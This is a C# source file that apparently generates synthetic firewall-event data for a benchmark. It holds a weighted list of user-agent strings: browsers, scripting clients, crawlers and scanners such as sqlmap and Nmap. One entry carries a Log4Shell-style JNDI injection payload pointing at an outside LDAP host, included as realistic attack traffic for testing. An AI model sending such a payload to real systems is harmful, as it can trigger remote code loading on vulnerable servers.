using System.Text.Json;

namespace EcsForge.Bench.Data;

/// <summary>
/// User agents in the proportions firewall events show: browsers, but nearly as many scripts, crawlers and scanners,
/// which is what firewalls mostly act on.
/// </summary>
internal static class UserAgents
{
    public static WeightedPool<JsonEncodedText> All { get; } = new(
        (JsonText.Go("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"), 8),
        (JsonText.Go("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36"), 5),
        (JsonText.Go("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.0.0"), 4),
        (JsonText.Go("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:126.0) Gecko/20100101 Firefox/126.0"), 3),
        (JsonText.Go("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36"), 3),
        (JsonText.Go("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15"), 3),
        (JsonText.Go("Mozilla/5.0 (Macintosh; Intel Mac OS X 14.5; rv:126.0) Gecko/20100101 Firefox/126.0"), 1),
        (JsonText.Go("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"), 2),
        (JsonText.Go("Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"), 1),
        (JsonText.Go("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.6422.53 Mobile Safari/537.36"), 5),
        (JsonText.Go("Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36"), 2),
        (JsonText.Go("Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1"), 4),
        (JsonText.Go("Mozilla/5.0 (iPad; CPU OS 16_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/125.0.6422.80 Mobile/15E148 Safari/604.1"), 1),
        (JsonText.Go("curl/8.5.0"), 12),
        (JsonText.Go("curl/7.68.0"), 8),
        (JsonText.Go("python-requests/2.31.0"), 12),
        (JsonText.Go("Go-http-client/1.1"), 12),
        (JsonText.Go("Wget/1.21.2"), 4),
        (JsonText.Go("okhttp/4.12.0"), 4),
        (JsonText.Go("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"), 3),
        (JsonText.Go("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"), 2),
        (JsonText.Go("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"), 2),
        (JsonText.Go("Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)"), 1),
        (JsonText.Go("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"), 1),
        (JsonText.Go("Mozilla/5.0 zgrab/0.x"), 1),
        (JsonText.Go("sqlmap/1.8#stable (https://sqlmap.org)"), 1),
        (JsonText.Go("Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.36 ${jndi:ldap://198.51.100.7:1389/a}"), 1),
        (JsonText.Go(""), 6));
}
